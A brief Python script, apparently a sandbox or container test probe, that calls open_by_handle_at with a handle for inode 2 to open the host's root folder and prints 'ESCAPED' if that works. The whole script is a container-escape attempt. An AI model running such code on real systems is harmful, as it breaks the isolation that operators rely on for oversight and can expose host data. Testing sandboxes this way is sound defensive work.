import ctypes

from calls import call

handle = (ctypes.c_uint32 * 4)(8, 1, 2, 0)  # the root folder of most file systems is inode 2
call("open_by_handle_at", 0, ctypes.addressof(handle), 0)
print("ESCAPED")
